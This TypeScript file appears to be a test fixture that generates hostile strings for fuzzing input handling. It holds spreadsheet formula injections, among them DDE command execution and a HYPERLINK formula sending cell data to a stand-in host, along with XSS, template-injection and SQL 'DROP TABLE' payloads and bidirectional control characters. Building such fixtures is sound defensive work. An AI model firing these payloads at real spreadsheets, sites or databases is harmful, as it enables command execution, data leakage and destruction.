/** Names and sentences that break what is careless with them: formulas, markup, quotes, directions, other scripts. */
const FORMULAS = [
  '=1+1',
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("http://example.org/?"&A1,"click")',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '+1+1',
  '-1+1',
  '-2+3+cmd|" /C calc"!A0',
  '=IMPORTXML("http://example.org","//a")',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
];
const LEADS = ['', ' ', '\t', '\r', '\n', '\r\n', '\u00A0', '\uFEFF', '"', "'", ';', ','];
const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  'javascript:alert(1)',
  '<b>bold</b>',
  '&lt;script&gt;',
  '{{7*7}}',
  '#{7*7}',
  '`id`',
  '</textarea><script>x</script>',
  "'; DROP TABLE seats; --",
  '%0A%0D',
];
const DIRECTIONS = [
  '\u202E',
  '\u202D',
  '\u2066',
  '\u2067',
  '\u2069',
  '\u200E',
  '\u200F',
  '\u061C',
  '\u200B',
  '\u0000',
  '\u001B[31m',
  '\u0007',
];
const SCRIPTS = [
  'Jürgen',
  'Zoë',
  '小明',
  'محمد',
  'Дмитрий',
  '👩‍👩‍👧',
  'é',
  'a,b',
  'a;b',
  '"q"',
  "it's",
  'x'.repeat(24),
];

/** Some two hundred and more. */
export function nastyStrings(): string[] {
  const formulas = FORMULAS.flatMap((formula) => LEADS.map((lead) => `${lead}${formula}`));
  const turned = MARKUP.flatMap((text) => DIRECTIONS.slice(0, 4).map((sign) => `${sign}${text}`));
  const hidden = DIRECTIONS.map((sign) => `a${sign}=1+1`);
  return [...formulas, ...MARKUP, ...turned, ...hidden, ...SCRIPTS];
}
